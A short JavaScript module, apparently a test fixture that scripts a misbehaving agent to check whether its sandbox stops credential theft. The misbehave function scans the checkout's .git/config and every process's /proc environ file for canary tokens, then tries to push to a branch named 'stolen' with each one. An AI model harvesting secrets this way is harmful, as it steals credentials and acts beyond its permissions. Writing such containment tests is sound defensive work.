// Looks for a token in the user's checkout and in the environments of all processes, and pushes with it.
import { readdirSync, readFileSync } from 'node:fs';
import { doTheWork, failureOf, finish, git, told } from '../kit.mjs';

export function misbehave() {
  doTheWork();
  const places = [
    `${told('checkout')}/.git/config`,
    ...readdirSync('/proc')
      .filter(name => /^\d+$/.test(name))
      .map(pid => `/proc/${pid}/environ`),
  ];
  const found = new Set(places.flatMap(tokensIn));
  const pushed = [...found].filter(token => pushWith(token));
  finish({ status: 'failed', summary: `found ${found.size} tokens, pushed with ${pushed.length}` });
}

function tokensIn(place) {
  let text = '';
  const problem = failureOf(() => {
    text = readFileSync(place, 'utf8');
  });
  return problem ? [] : [...text.matchAll(/canary-token-[\w-]+/g)].map(([token]) => token);
}

function pushWith(token) {
  const address = told('git').replace('://', `://bot:${token}@`);
  return failureOf(() => git('push', address, 'HEAD:refs/heads/stolen')) === '';
}
